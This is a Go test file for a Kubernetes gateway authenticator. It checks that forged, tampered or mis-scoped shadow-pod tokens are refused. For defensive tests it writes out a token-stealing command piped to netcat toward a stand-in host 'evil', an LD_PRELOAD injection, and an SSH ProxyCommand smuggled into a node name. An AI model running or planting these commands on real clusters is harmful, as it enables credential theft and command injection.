package gateway

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/sluice-hpc/sluice/internal/shadow"
	authv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	k8stesting "k8s.io/client-go/testing"
)

// fakeJWT is a token shaped as a JWT whose payload holds exp, and sub to
// tell tokens apart.
func fakeJWT(sub string, exp time.Time) string {
	payload := fmt.Sprintf(`{"sub":%q,"exp":%d}`, sub, exp.Unix())
	return "eyJhbGciOiJSUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(payload)) + ".c2ln"
}

func TestAuthenticateGrantsFromSluiceRecords(t *testing.T) {
	w := newWorld(t, gatewaySpec())
	a := w.authenticator(defaultScope())
	g, err := a.Authenticate(context.Background(), w.token(fakeJWT("ok", time.Now().Add(time.Hour)), w.shadow, "default"))
	if err != nil {
		t.Fatalf("Authenticate: %v", err)
	}
	want := &Grant{
		Pod:       PodRef{Namespace: "team", Name: "web", UID: w.pod.UID},
		Shadow:    PodRef{Namespace: "team-shadow", Name: w.shadow.Name, UID: w.shadow.UID},
		Job:       "4242",
		Node:      "node1",
		SocketDir: socketDir,
		// Where a requeue is recorded.
		NodeConfigMap: types.NamespacedName{Namespace: "team-shadow", Name: shadow.NodeConfigMap(w.deploy.Name)},
		ForwardPorts:  []int32{8080, 9090},
		SocketNames:   []string{"rev-6379.sock", "rev-5432.sock", "rev-1080.sock"},
		SocksPort:     1080,
		Relayed:       true,
	}
	if !reflect.DeepEqual(g, want) {
		t.Errorf("grant:\n got %+v\nwant %+v", g, want)
	}
}

// TestAuthenticateForwardOnlyRelayed: a pod with ports and no reverse
// tunnel is reached through its relay's forward entry where the site has
// a socket directory root (the shadow Deployment's mark, shadow.RunsRelay),
// and straight on the node's 127.0.0.1 where it has none.
func TestAuthenticateForwardOnlyRelayed(t *testing.T) {
	for _, root := range []string{"/tmp/sluice-sock", ""} {
		spec := gatewaySpec()
		spec.SocketDirRoot = root
		w := newWorldOf(t, spec, func(p *corev1.Pod) { p.Annotations = map[string]string{} })
		g, err := w.authenticator(defaultScope()).Authenticate(context.Background(), w.token(fakeJWT("ok", time.Now().Add(time.Hour)), w.shadow, "default"))
		if err != nil {
			t.Fatalf("root %q: Authenticate: %v", root, err)
		}
		if g.Relayed != (root != "") || len(g.SocketNames) != 0 || !reflect.DeepEqual(g.ForwardPorts, []int32{8080, 9090}) {
			t.Errorf("root %q: grant %+v; want Relayed %v, ports 8080 and 9090, no sockets", root, g, root != "")
		}
	}
}

// TestAuthenticateTenantInputIgnored: what the offloaded pod says now
// (its annotations and ports, a tenant's to change) does not change the
// grant: it comes from the shadow sluice built.
func TestAuthenticateTenantInputIgnored(t *testing.T) {
	w := newWorld(t, gatewaySpec())
	ctx := context.Background()
	w.pod.Annotations["interlink.eu/reverse-forwards"] = "evil:22 other:23"
	w.pod.Spec.Containers[0].Ports = append(w.pod.Spec.Containers[0].Ports, corev1.ContainerPort{ContainerPort: 22})
	if _, err := w.client.CoreV1().Pods("team").Create(ctx, w.pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	g, err := w.authenticator(defaultScope()).Authenticate(ctx, w.token("t", w.shadow, "default"))
	if err != nil {
		t.Fatalf("Authenticate: %v", err)
	}
	if !reflect.DeepEqual(g.ForwardPorts, []int32{8080, 9090}) || len(g.SocketNames) != 3 {
		t.Errorf("grant follows the pod's current fields: ports %v, sockets %v", g.ForwardPorts, g.SocketNames)
	}
}

func TestAuthenticateRefuses(t *testing.T) {
	ctx := context.Background()
	// What a pod the shadow's ReplicaSet adopts could run beside the token.
	steal := &corev1.ExecAction{Command: []string{"sh", "-c", "cat /var/run/secrets/tokens/* | nc evil 80"}}
	for _, tt := range []struct {
		name  string
		scope func(*ShadowScope)
		// change sets the world up and returns the token to present.
		change func(w *world) string
		why    string
	}{
		{"unknown token", nil, func(w *world) string { return "T0k3n-forged" }, "does not accept the token"},
		{"empty token", nil, func(w *world) string { return "" }, "no token"},
		{"oversized token", nil, func(w *world) string { return strings.Repeat("T0k3n", maxTokenLen) }, "longer than 16384"},
		{"other audience", nil, func(w *world) string {
			tok := w.token("aud", w.shadow, "default")
			st := w.reviews[tok]
			st.Audiences = []string{"https://kubernetes.default.svc"}
			w.reviews[tok] = st
			return tok
		}, "not sluice-gateway"},
		{"not a service account", nil, func(w *world) string {
			tok := w.token("user", w.shadow, "default")
			st := w.reviews[tok]
			st.User.Username = "alice"
			w.reviews[tok] = st
			return tok
		}, "is not a ServiceAccount"},
		{"not bound to a pod", nil, func(w *world) string {
			tok := w.token("unbound", w.shadow, "default")
			st := w.reviews[tok]
			st.User.Extra = nil
			w.reviews[tok] = st
			return tok
		}, "not bound to a pod"},
		{"pod gone", nil, func(w *world) string {
			tok := w.token("gone", w.shadow, "default")
			w.deletePod(w.shadow)
			return tok
		}, "is gone"},
		{"pod made again", nil, func(w *world) string {
			tok := w.token("again", w.shadow, "default")
			w.deletePod(w.shadow)
			p := w.shadow.DeepCopy()
			p.UID, p.ResourceVersion = "", ""
			if _, err := w.client.CoreV1().Pods(p.Namespace).Create(ctx, p, metav1.CreateOptions{}); err != nil {
				w.t.Fatal(err)
			}
			return tok
		}, "deleted and made again"},
		{"other service account", nil, func(w *world) string {
			return w.token("sa", w.shadow, "builder")
		}, "runs as ServiceAccount default, the token is of builder"},
		{"not a shadow pod", nil, func(w *world) string {
			return w.token("intruder", w.strayPod("intruder", nil), "default")
		}, "is not a shadow of node hpc-a"},
		{"labels copied, no owner", nil, func(w *world) string {
			return w.token("lookalike", w.strayPod("lookalike", w.shadow.Labels), "default")
		}, "no ReplicaSet controls it"},
		{"adopted by the shadow's ReplicaSet", nil, func(w *world) string {
			p := w.strayPod("adopted", w.shadow.Labels)
			p.OwnerReferences = w.shadow.OwnerReferences
			p.Spec.Containers[0].Name = w.shadow.Spec.Containers[0].Name
			p, err := w.client.CoreV1().Pods(p.Namespace).Update(ctx, p, metav1.UpdateOptions{})
			if err != nil {
				w.t.Fatal(err)
			}
			return w.token("adopted", p, "default")
		}, "does not run its shadow's spec"},
		{"shadow pod with an environment of its own", nil, func(w *world) string {
			w.shadow.Spec.Containers[0].Env = append(w.shadow.Spec.Containers[0].Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/tmp/x.so"})
			if _, err := w.client.CoreV1().Pods(w.shadow.Namespace).Update(ctx, w.shadow, metav1.UpdateOptions{}); err != nil {
				w.t.Fatal(err)
			}
			return w.token("env", w.shadow, "default")
		}, "container ssh-forward is not the shadow's ssh-forward"},
		{"shadow pod with a start hook of its own", nil, func(w *world) string {
			// A pod the ReplicaSet adopts may copy the shadow's containers
			// and add a hook: its command runs beside the token.
			w.shadow.Spec.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: steal}}
			return w.token("hook", w.updateShadow(), "default")
		}, "container ssh-forward is not the shadow's ssh-forward"},
		{"shadow pod with a probe of its own", nil, func(w *world) string {
			w.shadow.Spec.Containers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: steal}}
			return w.token("probe", w.updateShadow(), "default")
		}, "container ssh-forward is not the shadow's ssh-forward"},
		{"shadow pod with an ephemeral container", nil, func(w *world) string {
			w.shadow.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
				Name: "debug", Image: "busybox", Command: steal.Command}}}
			return w.token("ephemeral", w.updateShadow(), "default")
		}, "1 ephemeral containers"},
		{"shadow pod sharing its process namespace", nil, func(w *world) string {
			// A kept container could then read the tunnels' token
			// through /proc.
			yes := true
			w.shadow.Spec.ShareProcessNamespace = &yes
			return w.token("pidns", w.updateShadow(), "default")
		}, "shares namespaces the shadow's does not"},
		{"shadow pod on the host's network", nil, func(w *world) string {
			w.shadow.Spec.HostNetwork = true
			return w.token("hostnet", w.updateShadow(), "default")
		}, "shares namespaces the shadow's does not"},
		{"shadow of another node", func(s *ShadowScope) { s.Node = "hpc-b" }, func(w *world) string {
			return w.token("node", w.shadow, "default")
		}, `label sluice.io/node is "hpc-a"`},
		{"namespace not recorded", nil, func(w *world) string {
			w.deleteRecord(w.shadow.Namespace)
			return w.token("norecord", w.shadow, "default")
		}, "sluice did not create it"},
		{"namespace made again", nil, func(w *world) string {
			ns, err := w.client.CoreV1().Namespaces().Get(ctx, w.shadow.Namespace, metav1.GetOptions{})
			if err != nil {
				w.t.Fatal(err)
			}
			ns.UID = "11111111-2222-4333-8444-555555555555"
			if _, err := w.client.CoreV1().Namespaces().Update(ctx, ns, metav1.UpdateOptions{}); err != nil {
				w.t.Fatal(err)
			}
			return w.token("nsagain", w.shadow, "default")
		}, "deleted and made again since sluice created it"},
		{"outside the tenant namespace", func(s *ShadowScope) { s.TenantNamespace = "tenant" }, func(w *world) string {
			return w.token("tenant", w.shadow, "default")
		}, "confined to namespace tenant"},
		{"replicaset made again", nil, func(w *world) string {
			ref := metav1.GetControllerOf(w.shadow)
			rss := w.client.AppsV1().ReplicaSets(w.shadow.Namespace)
			rs, err := rss.Get(ctx, ref.Name, metav1.GetOptions{})
			if err != nil {
				w.t.Fatal(err)
			}
			if err := rss.Delete(ctx, ref.Name, metav1.DeleteOptions{}); err != nil {
				w.t.Fatal(err)
			}
			rs.UID, rs.ResourceVersion = "", ""
			if _, err := rss.Create(ctx, rs, metav1.CreateOptions{}); err != nil {
				w.t.Fatal(err)
			}
			return w.token("rs", w.shadow, "default")
		}, "was made again"},
		{"annotation names another pod", nil, func(w *world) string {
			w.deploy.Annotations[shadow.AnnotationPod] = "team/db"
			w.updateDeployment()
			return w.token("anno", w.shadow, "default")
		}, "is not the shadow of pod team/db"},
		{"node configmap not the deployment's", nil, func(w *world) string {
			cm, err := w.client.CoreV1().ConfigMaps(w.deploy.Namespace).Get(ctx, shadow.NodeConfigMap(w.deploy.Name), metav1.GetOptions{})
			if err != nil {
				w.t.Fatal(err)
			}
			cm.OwnerReferences = nil
			if _, err := w.client.CoreV1().ConfigMaps(cm.Namespace).Update(ctx, cm, metav1.UpdateOptions{}); err != nil {
				w.t.Fatal(err)
			}
			return w.token("cm", w.shadow, "default")
		}, "not owned by its shadow's deployment"},
		{"node configmap tampered", nil, func(w *world) string {
			cm, err := w.client.CoreV1().ConfigMaps(w.deploy.Namespace).Get(ctx, shadow.NodeConfigMap(w.deploy.Name), metav1.GetOptions{})
			if err != nil {
				w.t.Fatal(err)
			}
			cm.Data[shadow.NodeKey] = "node1 -oProxyCommand=x"
			if _, err := w.client.CoreV1().ConfigMaps(cm.Namespace).Update(ctx, cm, metav1.UpdateOptions{}); err != nil {
				w.t.Fatal(err)
			}
			return w.token("cmbad", w.shadow, "default")
		}, "host name"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t, gatewaySpec())
			scope := defaultScope()
			if tt.scope != nil {
				tt.scope(&scope)
			}
			tok := tt.change(w)
			g, err := w.authenticator(scope).Authenticate(ctx, tok)
			if n := w.calls.Load(); (tok == "" || len(tok) > maxTokenLen) && n != 0 {
				t.Errorf("%d TokenReviews of a token refused before any", n)
			}
			if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), tt.why) {
				t.Fatalf("Authenticate = %+v, %v; want refused, saying %q", g, err, tt.why)
			}
			if tok != "" && strings.Contains(err.Error(), tok) {
				t.Errorf("the refusal %q holds the token", err)
			}
		})
	}
}

// TestAuthenticateTrustedNamespaces: a shadow namespace sluice did not
// create is trusted when an operator lists it, and on a node confined to a
// tenant namespace that one is.
func TestAuthenticateTrustedNamespaces(t *testing.T) {
	ctx := context.Background()
	w := newWorld(t, gatewaySpec())
	w.deleteRecord(w.shadow.Namespace)
	scope := defaultScope()
	scope.TrustedNamespaces = []string{w.shadow.Namespace}
	if _, err := w.authenticator(scope).Authenticate(ctx, w.token("trusted", w.shadow, "default")); err != nil {
		t.Errorf("in a trusted namespace: %v", err)
	}

	spec := gatewaySpec()
	spec.TenantNamespace, spec.CredentialsNamespace = "team", ""
	w = newWorld(t, spec)
	scope = ShadowScope{Node: testNode, TenantNamespace: "team"}
	g, err := w.authenticator(scope).Authenticate(ctx, w.token("tenant", w.shadow, "default"))
	if err != nil || g.Shadow.Namespace != "team" || g.Pod.Name != "web" {
		t.Errorf("on a confined node: %+v, %v", g, err)
	}
}

// TestAuthenticateErrorsAreNotRefusals: when the API server cannot judge,
// the error says so and does not wrap ErrRefused, so the shadow retries.
func TestAuthenticateErrorsAreNotRefusals(t *testing.T) {
	w := newWorld(t, gatewaySpec())
	a := w.authenticator(defaultScope())
	_, err := a.Authenticate(context.Background(), "api-down")
	if err == nil || errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "review token") {
		t.Errorf("TokenReview failing: %v; want an error that is not a refusal", err)
	}
	tok := w.token("podsdown", w.shadow, "default")
	w.client.PrependReactor("get", "pods", func(k8stesting.Action) (bool, runtime.Object, error) {
		return true, nil, fmt.Errorf("etcd timeout")
	})
	_, err = a.Authenticate(context.Background(), tok)
	if err == nil || errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "get pod") {
		t.Errorf("pods unreadable: %v; want an error that is not a refusal", err)
	}
}

// TestAuthenticateCachesReviews: a shadow reconnecting with the same token
// is reviewed once while the review is fresh and the token unexpired; the
// grant is read again each time, so a pod deleted meanwhile is refused.
func TestAuthenticateCachesReviews(t *testing.T) {
	ctx := context.Background()
	w := newWorld(t, gatewaySpec())
	a := w.authenticator(defaultScope())
	now := time.Now()
	a.now = func() time.Time { return now }
	tok := w.token(fakeJWT("cache", now.Add(time.Hour)), w.shadow, "default")
	for range 100 {
		if _, err := a.Authenticate(ctx, tok); err != nil {
			t.Fatal(err)
		}
	}
	if n := w.calls.Load(); n != 1 {
		t.Errorf("100 authentications made %d reviews; want 1", n)
	}
	now = now.Add(defaultAcceptTTL)
	if _, err := a.Authenticate(ctx, tok); err != nil || w.calls.Load() != 2 {
		t.Errorf("after the TTL: %v, %d reviews; want a second review", err, w.calls.Load())
	}

	// A token near its expiry is kept until then only.
	short := w.token(fakeJWT("short", now.Add(2*time.Second)), w.shadow, "default")
	calls := w.calls.Load()
	if _, err := a.Authenticate(ctx, short); err != nil {
		t.Fatal(err)
	}
	now = now.Add(2 * time.Second)
	if _, err := a.Authenticate(ctx, short); err != nil || w.calls.Load() != calls+2 {
		t.Errorf("an expired token's review was reused: %v, %d reviews", err, w.calls.Load()-calls)
	}

	// A token of unknown expiry is reviewed each time.
	opaque := w.token("opaque", w.shadow, "default")
	calls = w.calls.Load()
	for range 2 {
		if _, err := a.Authenticate(ctx, opaque); err != nil {
			t.Fatal(err)
		}
	}
	if w.calls.Load() != calls+2 {
		t.Errorf("a token of unknown expiry was cached")
	}

	// The review is cached, the grant is not.
	w.deletePod(w.shadow)
	if _, err := a.Authenticate(ctx, tok); !errors.Is(err, ErrRefused) {
		t.Errorf("cached token of a deleted pod: %v; want refused", err)
	}
}

func TestAuthenticateCachesRefusalsBriefly(t *testing.T) {
	w := newWorld(t, gatewaySpec())
	a := w.authenticator(defaultScope())
	now := time.Now()
	a.now = func() time.Time { return now }
	for range 10 {
		if _, err := a.Authenticate(context.Background(), "forged"); !errors.Is(err, ErrRefused) {
			t.Fatal(err)
		}
	}
	now = now.Add(defaultRefuseTTL)
	if _, err := a.Authenticate(context.Background(), "forged"); !errors.Is(err, ErrRefused) {
		t.Fatal(err)
	}
	if n := w.calls.Load(); n != 2 {
		t.Errorf("11 attempts with a refused token over the refusal TTL made %d reviews; want 2", n)
	}
}

func TestReviewCacheBounded(t *testing.T) {
	c := newReviewCache(3, time.Minute, time.Second)
	now := time.Now()
	exp := now.Add(time.Hour)
	key := func(i int) [32]byte { return [32]byte{byte(i)} }
	for i := range 3 {
		c.put(key(i), review{serviceAccount: fmt.Sprint(i)}, now, exp)
	}
	c.get(key(0), now) // 0 used: 1 is the least recently used
	c.put(key(3), review{serviceAccount: "3"}, now, exp)
	if _, ok := c.get(key(1), now); ok {
		t.Error("the least recently used review was kept past the bound")
	}
	for _, i := range []int{0, 2, 3} {
		if r, ok := c.get(key(i), now); !ok || r.serviceAccount != fmt.Sprint(i) {
			t.Errorf("review %d: %+v, %v", i, r, ok)
		}
	}
	if c.order.Len() != 3 || len(c.byKey) != 3 {
		t.Errorf("cache holds %d/%d entries; want 3", c.order.Len(), len(c.byKey))
	}
}

func TestJudge(t *testing.T) {
	ok := authv1.TokenReviewStatus{
		Authenticated: true,
		Audiences:     []string{"other", Audience},
		User: authv1.UserInfo{Username: "system:serviceaccount:ns:sa", Extra: map[string]authv1.ExtraValue{
			extraPodName: {"p"}, extraPodUID: {"u"},
		}},
	}
	if r := judge(ok); r.refused != "" || r.pod != (PodRef{Namespace: "ns", Name: "p", UID: types.UID("u")}) || r.serviceAccount != "sa" {
		t.Errorf("judge(ok) = %+v", r)
	}
	for _, user := range []string{"system:serviceaccount:ns", "system:serviceaccount::sa", "system:serviceaccount:ns:", "system:serviceaccount:ns:sa:x", "system:node:n1"} {
		st := ok
		st.User.Username = user
		if r := judge(st); r.refused == "" {
			t.Errorf("user %q accepted", user)
		}
	}
	st := ok
	st.User.Extra = map[string]authv1.ExtraValue{extraPodName: {"p", "q"}, extraPodUID: {"u"}}
	if r := judge(st); r.refused == "" {
		t.Error("two pod names accepted")
	}
}
